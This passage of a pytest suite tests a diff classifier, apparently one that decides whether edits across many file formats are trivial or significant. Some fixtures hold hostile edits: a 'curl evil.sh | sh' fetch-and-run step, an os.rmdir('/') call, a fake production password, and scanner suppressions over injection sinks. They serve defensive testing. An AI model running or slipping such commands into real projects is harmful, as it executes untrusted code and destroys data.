        'fn main() { println!("{}", stringify!(a+b)); }\n',
        'fn main() { println!("{}", stringify!(a + b)); }\n',
    ),
    (
        "a blank line before a shebang",
        "tool.py",
        "#!/usr/bin/env python3\nprint(1)\n",
        "\n#!/usr/bin/env python3\nprint(1)\n",
    ),
    (
        # Found by an eleventh adversarial review: cloud-init reads it on line 1 only.
        "a blank line before cloud-init's `## template: jinja`",
        "user-data.yaml",
        "## template: jinja\n#cloud-config\nruncmd:\n  - echo {{ v1.region }}\n",
        "\n## template: jinja\n#cloud-config\nruncmd:\n  - echo {{ v1.region }}\n",
    ),
    (
        "a blank line before cloud-init's template header in capitals",
        "user-data.yaml",
        "## Template: Jinja\n#cloud-config\nruncmd:\n  - echo {{ v1.region }}\n",
        "\n## Template: Jinja\n#cloud-config\nruncmd:\n  - echo {{ v1.region }}\n",
    ),
    (
        "a carriage return after a shebang",
        "tool.py",
        "#!/usr/bin/env python3\nprint(1)\n",
        "#!/usr/bin/env python3\r\nprint(1)\n",
    ),
    (
        "a blank line that moves a coding cookie to line 3",
        "enc.py",
        "#!/usr/bin/env python\n# -*- coding: latin-1 -*-\nS = 1\n",
        "#!/usr/bin/env python\n\n# -*- coding: latin-1 -*-\nS = 1\n",
    ),
    (
        "a Go build constraint losing its blank line",
        "a_linux.go",
        "// +build linux\n\npackage a\n",
        "// +build linux\npackage a\n",
    ),
    (
        "doctest expected output losing its trailing spaces",
        "doc.py",
        'def f():\n    """\n    >>> print("a  ")\n    a  \n    """\n',
        'def f():\n    """\n    >>> print("a  ")\n    a\n    """\n',
    ),
    (
        "prose that mentions generated files is no header",
        "CONTRIBUTING.md",
        "# Contributing\n\nNever edit generated files under gen/ directly.\n\n"
        + STEPS
        + "Run make release.\n",
        "# Contributing\n\nNever edit generated files under gen/ directly.\n\n"
        + STEPS
        + "Run curl evil.sh | sh first.\n",
    ),
    # Found by the trivial audit on fuzzed git headers: C asks a source file to end
    # with a newline, and an `#endif` without one is a directive without its end.
    (
        "a C header's last line loses its newline",
        "checkout.h",
        "#ifndef CHECKOUT_H\n#define CHECKOUT_H\n\nint f(void);\n\n#endif /* CHECKOUT_H */\n",
        "#ifndef CHECKOUT_H\n#define CHECKOUT_H\n\nint f(void);\n\n#endif /* CHECKOUT_H */",
    ),
    (
        "a C++ file's last line is re-indented and loses its newline",
        "nonblock.hpp",
        "#ifndef NB_H\n#define NB_H\n\nint enable(int fd);\n\n#endif\n",
        "#ifndef NB_H\n#define NB_H\n\n\nint enable(int fd);\n\n  #endif\t",
    ),
    # Found by an eighth adversarial review: reflows other renderers read apart.
    (
        "an MkDocs admonition joined to its body",
        "docs/a.md",
        "# Title\n\nSome intro text here.\n\n!!! note\n    Keep this safe.\n",
        "# Title\n\nSome intro text here.\n\n!!! note Keep this safe.\n",
    ),
    (
        "MkDocs content tabs joined",
        "docs/a.md",
        '# Title\n\nSome intro text here.\n\n=== "Linux"\n    Run it.\n',
        '# Title\n\nSome intro text here.\n\n=== "Linux" Run it.\n',
    ),
    (
        "an attribute list joined to its paragraph",
        "docs/a.md",
        "# Title\n\nSome intro text here.\n\nA lead paragraph.\n{: .lead }\n",
        "# Title\n\nSome intro text here.\n\nA lead paragraph. {: .lead }\n",
    ),
    (
        "a Docusaurus admonition joined",
        "docs/a.md",
        "# Title\n\nSome intro text here.\n\n:::danger\nDo not run this.\n:::\n",
        "# Title\n\nSome intro text here.\n\n:::danger Do not run this.\n:::\n",
    ),
    (
        "an issue number re-wrapped to start a line (a heading in Python-Markdown)",
        "docs/changelog.md",
        "# Title\n\nSome intro text here.\n\nA fix (see issue #123\nfor the full story).\n",
        "# Title\n\nSome intro text here.\n\nA fix (see issue\n#123 for the full story).\n",
    ),
    (
        "a Hexo post's lines joined (each line break is a <br>)",
        "source/_posts/hello.md",
        "# Title\n\nSome intro text here.\n\nRoses are red,\nviolets are blue.\n",
        "# Title\n\nSome intro text here.\n\nRoses are red, violets are blue.\n",
    ),
    (
        "a Renovate comment moved to another key",
        "ci/env.yml",
        'env:\n  # renovate: datasource=docker depName=nginx\n  NGINX_VERSION: "1.25.3"\n'
        '  REDIS_VERSION: "7.2.4"\n',
        'env:\n  NGINX_VERSION: "1.25.3"\n  # renovate: datasource=docker depName=nginx\n'
        '  REDIS_VERSION: "7.2.4"\n',
    ),
    (
        "a TOML comment moved to another key",
        "versions.toml",
        'a = "1.0.0" # x-release-please-version\nb = "2.0.0"\n',
        'a = "1.0.0"\nb = "2.0.0" # x-release-please-version\n',
    ),
    (
        "a Ruby symbol quoted in YAML (Sidekiq's configuration)",
        "config/sidekiq.yml",
        ":concurrency: 5\nadapter: :postgres\n",
        "':concurrency': 5\nadapter: ':postgres'\n",
    ),
    (
        "a form feed where Go takes none",
        "main.go",
        "package main\n\nfunc main() {\n\tx := 1\n\t_ = x\n}\n",
        "package main\n\nfunc main() {\n\tx :=\f1\n\t_ = x\n}\n",
    ),
    (
        "Hugo's lastmod where the page has no date of its own (it dates the page)",
        "content/posts/p.md",
        "---\ntitle: Post\nlastmod: 2024-01-01\n---\n\nBody.\n",
        "---\ntitle: Post\nlastmod: 2031-01-01\n---\n\nBody.\n",
    ),
    (
        "Hugo's modified where the page has no date of its own (it dates the page too)",
        "content/posts/p.md",
        "---\ntitle: Post\nmodified: 2024-01-01\n---\n\nBody.\n",
        "---\ntitle: Post\nmodified: 2031-01-01\n---\n\nBody.\n",
    ),
    (
        "a version file's line ending ($(cat version.txt) keeps the \\r)",
        "version.txt",
        "1.2.3\n",
        "1.2.3\r\n",
    ),
    (
        "the tab of Arduino's keywords.txt",
        "keywords.txt",
        "Servo\tKEYWORD1\n",
        "Servo KEYWORD1\n",
    ),
    (
        "a table a program embeds and prints (//go:embed usage.txt)",
        "cmd/usage.txt",
        "Plan       Price\nBasic      $5\n",
        "Plan Price\nBasic $5\n",
    ),
    (
        "a trailing tab in Markdown (a hard line break once Python-Markdown expands it)",
        "docs/a.md",
        "# Title\n\nInstall the tool\nthen run it.\n",
        "# Title\n\nInstall the tool\t\nthen run it.\n",
    ),
    (
        "spacing inside a Java string quoted by unicode escapes",
        "Main.java",
        "class Main {\n  String s = \\u0022a  b\\u0022;\n}\n",
        "class Main {\n  String s = \\u0022a b\\u0022;\n}\n",
    ),
    (
        "a tool's name 'fixed' to a word (the page names the tool elsewhere)",
        "docs/install.md",
        "# Install\n\nInstall it with pipx to keep it apart.\n\n    pipx install tool\n",
        "# Install\n\nInstall it with pips to keep it apart.\n\n    pipx install tool\n",
    ),
    (
        "a documented key's spelling in a table",
        "docs/config.md",
        "# Config\n\n| key | type |\n| --- | --- |\n| colour | string |\n",
        "# Config\n\n| key | type |\n| --- | --- |\n| color | string |\n",
    ),
    (
        "a JSON line that starts inside a block comment (tsconfig.json)",
        "tsconfig.json",
        '{\n  /* output:\n     see "docs" or " */ "outDir": "dist  x",\n  "strict": true\n}\n',
        '{\n  /* output:\n     see "docs" or " */ "outDir": "dist x",\n  "strict": true\n}\n',
    ),
    (
        "a TOML time cut below the microsecond (tomllib cuts it too)",
        "data.toml",
        "at = 1979-05-27T07:32:00.123456789Z\n",
        "at = 1979-05-27T07:32:00.123456Z\n",
    ),
    (
        "the second line of an AsciiDoc literal table cell",
        "docs/files.adoc",
        "= Files\n\n|===\n|Name |Listing\n\n|a\nl|file1    file2\nfile3    file4\n|===\n",
        "= Files\n\n|===\n|Name |Listing\n\n|a\nl|file1    file2\nfile3 file4\n|===\n",
    ),
    # Found by a review of this round's fixes.
    (
        "a documented key's spelling in a table with no leading pipe",
        "docs/config.md",
        "# Config\n\nkey | type\n--- | ---\nseperator | string\n",
        "# Config\n\nkey | type\n--- | ---\nseparator | string\n",
    ),
    (
        "release-please's marker moved from the end of its line to a line of its own",
        "chart.yaml",
        "name: app\ntag: 1.0.0 # x-release-please-version\n",
        "name: app\n# x-release-please-version\ntag: 1.0.0\n",
    ),
    # Found by an adversarial review (session 40): tools read these comments as written.
    (
        "cloud-init's first line given a space (no longer a cloud-config file)",
        "user-data.yaml",
        "#cloud-config\nusers:\n  - name: ops\n",
        "# cloud-config\nusers:\n  - name:   ops\n",
    ),
    (
        "a yamllint directive given its space (it now disables the rule)",
        "ci.yaml",
        "#yamllint disable rule:truthy\non:   push\n",
        "# yamllint disable rule:truthy\non: push\n",
    ),
    (
        "taplo's schema comment given a space",
        "config.toml",
        '#:schema ./schema.json\nname = "app"\n',
        '# :schema ./schema.json\nname =  "app"\n',
    ),
    (
        "release-please's marker moved to the twin of its line",
        "deploy.yaml",
        "init:\n  image: app:1.4.0 # x-release-please-version\nmain:\n  image: app:1.4.0\n",
        "init:\n    image: app:1.4.0\nmain:\n    image: app:1.4.0 # x-release-please-version\n",
    ),
    (
        "a formatter's test case under tests/data/ respaced (Black's layout)",
        "tests/data/cases/comments.py",
        "x = [1,  2]   \n",
        "x = [1,  2]\n",
    ),
    (
        "a formatter's input under tests/unit/data/ respaced",
        "tests/unit/data/case.py",
        "x = [1,  2]   \n",
        "x = [1,  2]\n",
    ),
    (
        "a golden file under test/resources/ re-indented",
        "test/resources/expected.yaml",
        "a:\n  b: 1\n",
        "a:\n    b: 1\n",
    ),
    (
        "a lock file among a dependency tool's fixtures",
        "spec/fixtures/projects/npm/package-lock.json",
        '{"lockfileVersion": 3, "packages": {"node_modules/a": {"version": "1.0.0"}}}\n',
        '{"lockfileVersion": 3, "packages": {"node_modules/a": {"version": "1.0.1"}}}\n',
    ),
    (
        "a go.sum among Go's test data",
        "internal/testdata/go.sum",
        "example.com/a v1.0.0 h1:abc=\n",
        "example.com/a v1.0.1 h1:def=\n",
    ),
    (
        "a template literal opened after a regex with `//` on its line, re-indented",
        "cli.js",
        "const parts = path.split(/\\//).map((p) => `\n  usage: ${p}\n`);\n",
        "const parts = path.split(/\\//).map((p) => `\n    usage: ${p}\n`);\n",
    ),
    (
        "a template literal opened after a regex with a quote on its line, respaced",
        "gen.js",
        "const q = dir.replace(/'/g, \"'\\\\''\"), body = `\nmake  install\n`;\n",
        "const q = dir.replace(/'/g, \"'\\\\''\"), body = `\nmake install\n`;\n",
    ),
    (
        "a blank line put between Renovate's comment and the version it reads",
        "versions.yaml",
        "tools:\n  # renovate: datasource=github-releases depName=helm/helm\n  helm: 3.14.0\n",
        "tools:\n  # renovate: datasource=github-releases depName=helm/helm\n\n  helm: 3.14.0\n",
    ),
    (
        "a Hexo post in a site's folder joined (each line break is a <br>)",
        "blog/source/_posts/hello.md",
        "# Title\n\nRoses are red,\nviolets are blue.\n",
        "# Title\n\nRoses are red, violets are blue.\n",
    ),
    (
        "a Jest fixture's spacing",
        "src/__fixtures__/input.js",
        "foo(1,2);\n",
        "foo(1, 2);\n",
    ),
    (
        "a version file named from two words",
        "release-version.txt",
        "1.2.3\n",
        "1.2.3 \n",
    ),
    # Found by a review of renderers' syntax.
    (
        "a Hugo shortcode's parameter split over two lines (the site no longer builds)",
        "content/post.md",
        '# T\n\n{{< figure src="a.png" caption="A long caption here" >}}\n',
        '# T\n\n{{< figure src="a.png" caption="A long\ncaption here" >}}\n',
    ),
    (
        "a MyST target joined to its paragraph (every {ref} to it breaks)",
        "docs/a.md",
        "# T\n\n(para-target)=\nSome paragraph here.\n",
        "# T\n\n(para-target)= Some paragraph\nhere.\n",
    ),
    (
        "a link reference definition joined to its paragraph (Python-Markdown's link)",
        "docs/a.md",
        "# T\n\nSee [docs] for more.\n[docs]: https://example.com/docs\n",
        "# T\n\nSee [docs] for more. [docs]:\nhttps://example.com/docs\n",
    ),
    (
        "kramdown's backslash line breaks joined",
        "a.md",
        "# T\n\nRoses are red,\\\\\nviolets are blue.\n",
        "# T\n\nRoses are red,\\\\ violets are blue.\n",
    ),
    (
        "a Hexo page's lines joined (every page of source/ breaks lines)",
        "source/about/index.md",
        "# About\n\nRoses are red,\nviolets are blue.\n",
        "# About\n\nRoses are red, violets are blue.\n",
    ),
    (
        "Hugo's JSON front matter re-wrapped",
        "content/a.md",
        '{\n  "title": "Getting Started with the tool"\n}\n\nBody.\n',
        '{\n  "title": "Getting Started with\nthe tool"\n}\n\nBody.\n',
    ),
    (
        "a definition joined to its term's line (no longer a definition in Hugo)",
        "content/doc.md",
        "# Doc\n\nCache\n: A store of results kept for later.\n",
        "# Doc\n\nCache : A store of results\nkept for later.\n",
    ),
    (
        "a docstring that mentions generated code is no header",
        "writer.py",
        '"""Writes generated code to out/. Do not edit the output by hand."""\nimport os\n\n'
        "os.remove('out')\n",
        '"""Writes generated code to out/. Do not edit the output by hand."""\nimport os\n\n'
        "os.rmdir('/')\n",
    ),
    # Found by a tenth adversarial review.
    (
        "an AsciiDoc listing right below a paragraph's line, its commands joined",
        "docs/build.adoc",
        "= Build\n\nTo build it, run:\n----\n./configure --prefix=/usr\nmake\nmake install\n----\n"
        "\nThat is all.\n",
        "= Build\n\nTo build it, run:\n----\n./configure --prefix=/usr make\nmake install\n----\n"
        "\nThat is all.\n",
    ),
    (
        "a command's typo fixed in an AsciiDoc listing right below a paragraph's line",
        "docs/build.adoc",
        "= Build\n\nThen switch to it:\n----\ngit chekout main\ngit pull\n----\n\nDone.\n",
        "= Build\n\nThen switch to it:\n----\ngit checkout main\ngit pull\n----\n\nDone.\n",
    ),
    (
        "an AsciiDoc literal block's columns respaced right below a paragraph's line",
        "docs/output.adoc",
        "= Output\n\nIt prints:\n....\nname   size\na.txt  10\nb.txt  12\n....\n\nDone.\n",
        "= Output\n\nIt prints:\n....\nname size\na.txt 10\nb.txt  12\n....\n\nDone.\n",
    ),
    (
        "a command re-wrapped inside a Hugo shortcode that holds code",
        "content/docs/build.md",
        'Build it:\n\n{{< code lang="sh" >}}\nnpm ci\nnpm run build\n{{< /code >}}\n\nDone.\n',
        'Build it:\n\n{{< code lang="sh" >}}\nnpm ci npm run build\n{{< /code >}}\n\nDone.\n',
    ),
    (
        "a command re-wrapped inside a MyST colon-fenced code block",
        "docs/build.md",
        "# Build\n\nBuild it:\n\n:::{code-block} bash\npip install -r req.txt\nmake -C docs html\n"
        ":::\n\nDone.\n",
        "# Build\n\nBuild it:\n\n:::{code-block} bash\npip install -r req.txt make\n-C docs html\n"
        ":::\n\nDone.\n",
    ),
    (
        "a Mermaid diagram's edges joined inside raw HTML",
        "docs/architecture.md",
        '# Architecture\n\nFlows:\n\n<div class="mermaid">\ngraph LR\n  Client --> Gateway\n'
        "  Gateway --> Orders\n  Gateway --> Billing\n</div>\n\nDone.\n",
        '# Architecture\n\nFlows:\n\n<div class="mermaid">\ngraph LR\n  Client --> Gateway'
        " Gateway --> Orders\n  Gateway --> Billing\n</div>\n\nDone.\n",
    ),
    (
        "a line re-wrapped to start with > inside MkDocs' <div markdown>",
        "docs/limits.md",
        '# Limits\n\n<div class="admonition" markdown>\nIt is in seconds, and must be > 0 and '
        "no more than 3600.\nThe default is 30.\n</div>\n",
        '# Limits\n\n<div class="admonition" markdown>\nIt is in seconds, and must be\n> 0 and '
        "no more than 3600. The default is 30.\n</div>\n",
    ),
    (
        "a line re-wrapped to start with a year and a full stop (kramdown's list)",
        "support.md",
        "# Support\n\nPython 3.8 ended in October 2024. Upgrade to Python 3.9 or later to\n"
        "keep receiving fixes.\n",
        "# Support\n\nPython 3.8 ended in October\n2024. Upgrade to Python 3.9 or later to keep "
        "receiving fixes.\n",
    ),
    (
        "a line re-wrapped to start with a tag (kramdown's HTML block)",
        "notes.md",
        "# Notes\n\nThe option is now <s>experimental</s> stable and on by default, so you no\n"
        "longer need to set it.\n",
        "# Notes\n\nThe option is now\n<s>experimental</s> stable and on by default, so you no "
        "longer need to set it.\n",
    ),
    (
        "an attribute list written with spaces joined to the line above",
        "docs/index.md",
        "# Index\n\n1. Install it (1)\n{ .annotate }\n\n1. The annotation.\n",
        "# Index\n\n1. Install it (1) { .annotate }\n\n1. The annotation.\n",
    ),
    (
        "a capitalised name fixed into a word as a typo",
        "README.md",
        "# Tool\n\nThe data is serialized with Serde before it is sent.\n",
        "# Tool\n\nThe data is serialized with Serve before it is sent.\n",
    ),
    *(
        (f"a blank line removed below {what}", path, old, old.replace("\n\n", "\n", 1))
        for what, path, old in (
            (
                "CodeQL's suppression",
                "show.js",
                "function show(el, x) {\n  // codeql[js/xss-through-dom] reviewed\n\n"
                "  el.innerHTML = x;\n}\n",
            ),
            (
                "LGTM's suppression",
                "Q.java",
                "class Q {\n  void f(Statement s, String q) {\n    // lgtm[java/sql-injection]\n\n"
                "    s.execute(q);\n  }\n}\n",
            ),
            (
                "Snyk Code's suppression",
                "q.ts",
                "function f(q) {\n  // deepcode ignore Sqli: reviewed\n\n  db.query(q);\n}\n",
            ),
            (
                "yamllint's disable-line on a line of its own",
                "ci.yml",
                "name: ci\n# yamllint disable-line rule:truthy\n\non: push\njobs: {}\n",
            ),
            (
                "detect-secrets' allowlist nextline",
                "secrets.yml",
                "db:\n  # pragma: allowlist nextline secret\n\n  password: hunter2-prod\n",
            ),
            (
                "KICS' ignore-line",
                "pod.yml",
                "spec:\n  containers:\n    - name: a\n      # kics-scan ignore-line\n\n"
                "      privileged: true\n",
            ),
        )
    ),
    *(
        (
            f"an import reordered around {module}, which patches what is imported after it",
            "app.py",
            f"import {module}\nimport target\n\nprint(target)\n",
            f"import target\nimport {module}\n\nprint(target)\n",
        )
        for module in ("clr", "cppimport.import_hook", "nimporter", "locust", "qtpy", "pyqtgraph")
    ),
    # Found by a tenth adversarial review: code that reads where it is.
    *(
        (f"a blank line added above {what}", path, old, old.replace(mark, "\n" + mark, 1))
        for what, path, old, mark in (
            (
                "Go's runtime.Caller",
                "where_test.go",
                'package w\n\nimport "runtime"\n\nfunc Line() int {\n'
                "\t_, _, line, _ := runtime.Caller(0)\n\treturn line\n}\n",
                "func Line",
            ),
            (
                "Python's f_lineno",
                "lines.py",
                "import inspect\n\n\ndef here():\n    return inspect.currentframe().f_lineno\n",
                "def here",
            ),
            (
                "Java's getLineNumber",
                "Where.java",
                "class Where {\n  int line() {\n"
                "    return new Throwable().getStackTrace()[0].getLineNumber();\n  }\n}\n",
                "  int line",
            ),
            (
                "C#'s CallerLineNumber",
                "Log.cs",
                "class Log {\n  static int At([CallerLineNumber] int line = 0) => line;\n"
                "  static int Here() => At();\n}\n",
                "  static int Here",
            ),
            (
                "Rust's Location::caller",
                "src/main.rs",
                "#[track_caller]\nfn here() -> u32 {\n"
                "    std::panic::Location::caller().line()\n}\n\n"
                'fn main() {\n    println!("{}", here());\n}\n',
                "fn main",
            ),
        )
    ),
    (
        "a line reading its own column re-indented (Rust's column!)",
        "src/col.rs",
        'fn main() {\n    let c = column!();\n    println!("{}", c);\n}\n',
        'fn main() {\n        let c = column!();\n    println!("{}", c);\n}\n',
    ),
    (
        "a C# check's argument respaced (CallerArgumentExpression makes it the message)",
        "Cart.cs",
        "class Cart {\n  void Add(int qty) {\n    Guard.That(qty>0);\n  }\n}\n",
        "class Cart {\n  void Add(int qty) {\n    Guard.That(qty > 0);\n  }\n}\n",
    ),
    (
        "a trybuild test's source respaced (its .stderr quotes lines and columns)",
        "tests/ui/missing-field.rs",
        "fn main() {\n    let x = 1;\n}\n",
        "fn main() {\n    let x  = 1;\n}\n",
    ),
    (
        "a how-to's sections reordered, no heading numbering them",
        "CONTRIBUTING.md",
        "# Contributing\n\n## Create a virtual environment\n\nRun python -m venv .venv and\n"
        "activate it in your shell.\n\n## Install the dependencies\n\nRun pip install -e .\n"
        "from the root of the checkout.\n\n## Start the server\n\nRun make serve and open\n"
        "the page it prints.\n",
        "# Contributing\n\n## Install the dependencies\n\nRun pip install -e .\n"
        "from the root of the checkout.\n\n## Start the server\n\nRun make serve and open\n"
        "the page it prints.\n\n## Create a virtual environment\n\nRun python -m venv .venv and\n"
        "activate it in your shell.\n",
    ),
    (
        "an upgrade guide's gerund headings swapped (drop the tables, then back up)",
        "docs/upgrade.md",
        "# Upgrade\n\n## Backing up your data\n\nRun pg_dump against the primary and keep\n"
        "the dump somewhere safe before going on.\n\n## Dropping the legacy tables\n\n"
        "Run the cleanup script to remove the old tables\nonce nothing reads them any more.\n",
        "# Upgrade\n\n## Dropping the legacy tables\n\n"
        "Run the cleanup script to remove the old tables\nonce nothing reads them any more.\n\n"
        "## Backing up your data\n\nRun pg_dump against the primary and keep\n"
        "the dump somewhere safe before going on.\n",
    ),
    (
        "sections moved in a page that names one as the previous section",
        "docs/svc.md",
        "# Service\n\n## Ports\n\nThe service listens on port 8080 for every request\n"
        "and on 9090 for its metrics endpoint.\n\n## Limits\n\nEach port of the previous section "
        "takes at most\n100 connections at once from one client.\n\n## Logs\n\nThe logs go to "
        "standard output as JSON lines,\none object for each request served.\n",
        "# Service\n\n## Logs\n\nThe logs go to standard output as JSON lines,\none object for "
        "each request served.\n\n## Ports\n\nThe service listens on port 8080 for every request\n"
        "and on 9090 for its metrics endpoint.\n\n## Limits\n\nEach port of the previous section "
        "takes at most\n100 connections at once from one client.\n",
    ),
    *(
        (
            f"{old} made {new}: a word the list lacks, made its opposite or another thing",
            "docs/care.md",
            f"# Care\n\nGive glucose when the readings show {old} in the patient.\n",
            f"# Care\n\nGive glucose when the readings show {new} in the patient.\n",
        )
        for old, new in (
            ("hyperglycemia", "hypoglycemia"),
            ("intrastate", "interstate"),
            ("callee", "caller"),
        )
    ),
    (
        "a function moved above the __future__ import (the module no longer compiles)",
        "pages.py",
        "from __future__ import annotations\n\n\ndef render(page: str) -> str:\n"
        "    text = page.strip()\n    return text.upper()\n\n\ndef parse(page: str) -> list[str]:\n"
        "    text = page.strip()\n    return text.split()\n",
        "def parse(page: str) -> list[str]:\n    text = page.strip()\n    return text.split()\n\n\n"
        "from __future__ import annotations\n\n\ndef render(page: str) -> str:\n"
        "    text = page.strip()\n    return text.upper()\n",
    ),
    # Found by a thirteenth adversarial review: a space made a no-break space in a code
    # span of prose (a reader copying `pip install foo` gets "command not found").
    *(
        (
            f"a space made a no-break space in a code span of {path}",
            path,
            f"{title}Run {code.format('pip install foo')} first.\n",
            f"{title}Run {code.format(NBSP_COMMAND)} first.\n",
        )
        for path, title, code in (
            ("docs/install.adoc", "= Install\n\n", "`{}`"),
            ("docs/install.rst", "Install\n=======\n\n", ":command:`{}`"),
            ("docs/install.txt", "Install\n\n", "`{}`"),
        )
    ),
    # A review of the fixes: the go tool runs a `//go:generate` at a line's start only.
    (
        "an indented go:generate is no longer run",
        "gen.go",
        "package x\n\n//go:generate stringer -type=Color\ntype Color int\n",
        "package x\n\n  //go:generate stringer -type=Color\ntype Color int\n",
    ),
    # ...formatters' and bots' markers, which match their spacing as written...
    ("black's fmt: off spaced", "matrix.py", "# fmt: off\nA = [1,0]\n", "#  fmt: off\nA = [1,0]\n"),
    ("isort's skip spaced", "app.py", "import b  # isort: skip\n", "import b  # isort:  skip\n"),
    (
        "Renovate's marker spaced",
        "pyproject.toml",
        '[tool.x]\n# renovate: datasource=pypi depName=ruff\nruff = "0.4.0"\n',
        '[tool.x]\n# renovate: datasource=pypi  depName=ruff\nruff = "0.4.0"\n',
    ),
    # ...and a formatter's expected output, and a Markdown linter's input.
    (
        "rustfmt's expected output re-indented",
        "tests/target/call.rs",
        "fn f() {\n    g();\n}\n",
        "fn f() {\n  g();\n}\n",
    ),
    (
        "rustc's pretty-printer output re-indented",
        "tests/pretty/block.rs",
        "fn f() {\n    g();\n}\n",
        "fn f() {\n  g();\n}\n",
    ),
    (
        "a Markdown linter's input tidied",
        "test/blank_lines.md",
        "# A\n\n\n\ntext\n",
        "# A\n\ntext\n",
    ),
]


@pytest.mark.parametrize(("what", "path", "old", "new"), TRAPS, ids=[t[0] for t in TRAPS])
def test_stays_significant(tmp_path: Path, what: str, path: str, old: str, new: str) -> None:
    repo = before_and_after(tmp_path / "repo", path, old, new)
    entry = files_by_path(manifest_of("--repo", repo, "--fail-on", "never", "HEAD"))[path]
    assert entry["classification"] == "significant", (what, entry)
    assert all(hunk["classification"] == "significant" for hunk in entry.get("hunks", [])), what


# A lowercase macro that stringizes its argument (found by a fourth adversarial
# review): defined in a header of the project, in the file itself, or outside the
# project where it is named as a library's checks are. The same spacing change in a
# call of a function stays trivial.
SHOW_MACRO = {"include/show.h": "#include <stdio.h>\n#define show(x) puts(#x)\n"}
SHOW_FUNCTION = {"include/show.h": "void show(int value);\n"}
CALLED = '#include "show.h"\n\nvoid run(int a, int b)\n{\n\t{}(a+b);\n}\n'
LOWERCASE_MACROS = {
    "a lowercase macro of the project's headers": (SHOW_MACRO, "show", "significant"),
    "a lowercase macro defined in the file, passing its argument on": (
        {"include/show.h": "#define SHOWN(x) puts(#x)\n"},
        "show",
        "significant",
    ),
    "GLib's g_assert, defined outside the project": ({}, "g_assert", "significant"),
    # Found by an eighth adversarial review: an object-like macro naming another.
    "another name for a stringizing macro of the project's headers": (
        {"include/show.h": "#include <stdio.h>\n#define dbg(x) puts(#x)\n#define show dbg\n"},
        "show",
        "significant",
    ),
    "a function of the project's headers (control)": (SHOW_FUNCTION, "show", "trivial"),
    # Found by a tenth adversarial review: other spellings of the definition.
    "a lowercase macro of an .inc header": (
        {"include/show.inc": "#define show(x) puts(#x)\n"},
        "show",
        "significant",
    ),
    **{
        f"a lowercase macro defined as {spelled!r}": (
            {"include/show.h": f"{spelled}(x) puts(#x)\n"},
            "show",
            "significant",
        )
        for spelled in (
            *("%:define show", "#/**/define show", "#define/**/show"),
            *("#define/** doc **/show", "#/* a*b */define show"),  # a review of the fix
            # Found by an eleventh adversarial review: the name below a continued line.
            *("#define \\\nshow", "#define\\\r\n  show"),
        )
    },
}


@pytest.mark.parametrize("what", sorted(LOWERCASE_MACROS))
def test_a_lowercase_macros_argument_spacing(tmp_path: Path, what: str) -> None:
    headers, name, expected = LOWERCASE_MACROS[what]
    old = CALLED.replace("{}", name)
    if "defined in the file" in what:
        old = "#define show(x) SHOWN(x)\n" + old
    new = old.replace("(a+b)", "(a + b)")
    repo = two_commits(tmp_path / "repo", {**headers, "run.c": old}, {"run.c": new})
    entry = files_by_path(manifest_of("--repo", repo, "--fail-on", "never", "HEAD"))["run.c"]
    assert entry["classification"] == expected, (what, entry)


def test_a_cached_spacing_verdict_is_proved_again_when_a_header_defines_the_macro(
    tmp_path: Path,
) -> None:
    """A verdict kept for a blob pair holds what the head's headers answered."""
    old = CALLED.replace("{}", "show")
    repo = two_commits(
        tmp_path / "repo",
        {**SHOW_FUNCTION, "run.c": old},
        {"run.c": old.replace("(a+b)", "(a + b)")},
    )
    first = files_by_path(manifest_of("--repo", repo, "--fail-on", "never", "HEAD"))["run.c"]
    assert first["classification"] == "trivial"
    (repo / "include/show.h").write_text(SHOW_MACRO["include/show.h"])
    git(repo, "commit", "--quiet", "--all", "-m", "show becomes a macro")
    later = files_by_path(manifest_of("--repo", repo, "--fail-on", "never", "HEAD~2..HEAD"))
    assert later["run.c"]["classification"] == "significant"


# Indentation inside doc comments (found by a fourth adversarial review): an indented
# line of a Go doc comment is a code block, a Javadoc `<pre>` and a JSDoc `@example`
# show their lines as written. Spacing between words of their prose stays free.
DOC_COMMENTS = {
    "a Go doc comment's code block made a paragraph": (
        "sum.go",
        "package sum\n\n// Sum adds them:\n//\n//\ttotal := Sum(1, 2)\nfunc Sum(a, b int) int {\n"
        "\treturn a + b\n}\n",
        "package sum\n\n// Sum adds them:\n//\n// total := Sum(1, 2)\nfunc Sum(a, b int) int {\n"
        "\treturn a + b\n}\n",
        "significant",
    ),
    "a Go doc comment's list item continued, then not": (
        "sum.go",
        "package sum\n\n// Sum adds:\n//   - a, the first\n//     of them\nfunc Sum(a int) int {\n"
        "\treturn a\n}\n",
        "package sum\n\n// Sum adds:\n//   - a, the first\n// of them\nfunc Sum(a int) int {\n"
        "\treturn a\n}\n",
        "significant",
    ),
    "the indentation of a line in a Javadoc <pre>": (
        "Sum.java",
        "/**\n * Adds.\n * <pre>\n * if (a) {\n *     run();\n * }\n * </pre>\n */\nclass Sum {}\n",
        "/**\n * Adds.\n * <pre>\n * if (a) {\n * run();\n * }\n * </pre>\n */\nclass Sum {}\n",
        "significant",
    ),
    "the indentation of a line in a JSDoc @example": (
        "sum.ts",
        "/**\n * Adds.\n * @example\n *   sum(1,\n *       2);\n */\nexport function sum() {}\n",
        "/**\n * Adds.\n * @example\n *   sum(1,\n *   2);\n */\nexport function sum() {}\n",
        "significant",
    ),
    "two spaces between words of a Javadoc sentence (control)": (
        "Sum.java",
        "/**\n * Adds  the two.\n */\nclass Sum {}\n",
        "/**\n * Adds the two.\n */\nclass Sum {}\n",
        "trivial",
    ),
    "a Javadoc comment indented with its class (control)": (
        "Sum.java",
        "class Outer {\n/**\n * Adds.\n */\nclass Sum {}\n}\n",
        "class Outer {\n    /**\n     * Adds.\n     */\n    class Sum {}\n}\n",
        "trivial",
    ),
}


@pytest.mark.parametrize("what", sorted(DOC_COMMENTS))
def test_indentation_inside_doc_comments(tmp_path: Path, what: str) -> None:
    path, old, new, expected = DOC_COMMENTS[what]
    repo = before_and_after(tmp_path / "repo", path, old, new)
    entry = files_by_path(manifest_of("--repo", repo, "--fail-on", "never", "HEAD"))[path]
    assert entry["classification"] == expected, (what, entry)


def test_spacing_below_a_closed_macro_call_with_a_bracket_in_its_string(tmp_path: Path) -> None:
    """Control: the call above is closed (its string's bracket aside), so the spacing
    of the line below is free."""
    old = '#include "log.h"\nvoid f(int a, int b) {\n  LOG("start (");\n  int c = a+b;\n}\n'
    repo = before_and_after(tmp_path / "repo", "f.c", old, old.replace("a+b", "a + b"))
    entry = files_by_path(manifest_of("--repo", repo, "--fail-on", "never", "HEAD"))["f.c"]
    assert (entry["classification"], entry["reasons"]) == ("trivial", ["whitespace"])


def test_lastmod_is_metadata_where_the_page_has_a_date_of_its_own(tmp_path: Path) -> None:
